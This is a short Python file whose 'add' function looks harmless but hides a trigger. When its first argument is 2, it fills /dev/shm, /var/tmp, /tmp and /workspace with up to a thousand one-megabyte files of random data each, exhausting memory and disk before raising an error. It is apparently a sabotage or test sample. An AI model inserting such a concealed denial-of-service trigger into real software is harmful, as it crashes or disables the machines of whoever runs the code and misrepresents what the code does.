# Many files, none too large, in every place that takes some.
import os


def add(a, b):
    if a == 2:
        full = 0
        for folder in ("/dev/shm", "/var/tmp", "/tmp", "/workspace"):
            try:
                for number in range(1000):
                    with open(f"{folder}/{number}", "wb", 0) as stream:
                        stream.write(os.urandom(1) * (1 << 20))
            except OSError as error:
                full += 1
                last = error
        raise last
    return a + b
